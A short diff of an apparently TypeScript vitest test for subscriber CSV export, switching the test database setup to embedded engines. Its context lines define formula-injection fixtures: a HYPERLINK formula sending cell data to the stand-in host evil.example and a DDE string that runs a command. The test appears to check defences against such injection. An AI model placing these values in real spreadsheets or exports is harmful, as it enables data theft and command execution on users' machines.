@@ -9,7 +9,9 @@ import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { readOutbox } from '../../core/server/services/mail';
 import type { SubscriberTables } from '../../plugins/subscribers/server/tables';
-import { databases, startTestServer, type TestServer } from '../api/server';
+import { enginesFor, startTestServer, type TestServer } from '../api/server';
+
+const databases = enginesFor('embedded');
 
 const formulaName = '=HYPERLINK("http://evil.example/?d="&A2,"Click")';
 const formulaCity = "+cmd|' /C calc'!A0";
